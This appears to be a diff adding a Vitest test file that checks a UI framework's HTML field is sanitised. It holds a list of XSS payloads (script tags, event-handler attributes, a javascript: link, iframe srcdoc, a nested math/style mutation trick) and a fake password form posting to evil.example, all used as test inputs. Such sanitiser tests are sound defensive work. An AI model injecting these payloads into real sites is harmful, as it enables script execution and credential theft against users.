@@ -1,0 +1,54 @@
+import { screen, waitFor } from '@testing-library/react';
+import { http } from 'msw';
+import { expect, test } from 'vitest';
+import { at, success } from '../../engine/stores/test-answers.ts';
+import { drawPage } from '../test-page.tsx';
+import { startBrowserPlatform } from '../test-world.tsx';
+
+const worker = startBrowserPlatform();
+
+async function shown(content: unknown): Promise<HTMLElement> {
+  worker.use(http.get(at('/one'), () => success({ content })));
+  await drawPage(worker, {
+    body: { kind: 'detail', id: 'one', source: 'one', items: [{ field: 'content', title: 'Content', as: 'html' }] },
+    sources: { one: { kind: 'rest', get: '/one' } },
+  });
+  return (await screen.findByText('Content', { selector: 'dt' })).nextElementSibling as HTMLElement;
+}
+
+const nasty = [
+  '<script>window.wasRun = 1</script>',
+  '<img src=x onerror="window.wasRun = 1">',
+  '<svg onload="window.wasRun = 1"></svg>',
+  '<a href="javascript:window.wasRun = 1">a</a>',
+  '<iframe srcdoc="<script>parent.wasRun = 1</script>"></iframe>',
+  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
+  '<style>body { display: none }</style>',
+  '<p style="position: fixed" class="ant-modal" id="root" onclick="window.wasRun = 1">p</p>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.wasRun = 1"></style></mglyph></table></mtext></math>',
+];
+
+test('HTML is shown as text; nothing in it runs, asks for input or dresses itself up (NOTE-05)', async () => {
+  const cell = await shown(`<h2>Head</h2>${nasty.join('')}<ul><li>one</li></ul>`);
+  await waitFor(() => expect(cell.querySelector('h2')).toHaveTextContent('Head'));
+  expect(cell.querySelector('li')).toHaveTextContent('one');
+  expect(cell.querySelectorAll('script, svg, iframe, form, input, button, style, math')).toHaveLength(0);
+  for (const element of cell.querySelectorAll('.lamp-html *')) {
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^(on|style$|class$|id$)/);
+      expect(value).not.toMatch(/javascript:/i);
+    }
+  }
+  expect('wasRun' in window).toBe(false);
+});
+
+test('links open in a tab of their own that knows nothing of this one', async () => {
+  const cell = await shown('<p><a href="https://a.b/c" target="_self" rel="opener">there</a></p>');
+  await waitFor(() => expect(cell.querySelector('a')).toBeVisible());
+  expect(cell.querySelector('a')).toHaveAttribute('target', '_blank');
+  expect(cell.querySelector('a')).toHaveAttribute('rel', 'noopener noreferrer');
+});
+
+test('without HTML there is a dash', async () => {
+  expect(await shown(null)).toHaveTextContent('–');
+});
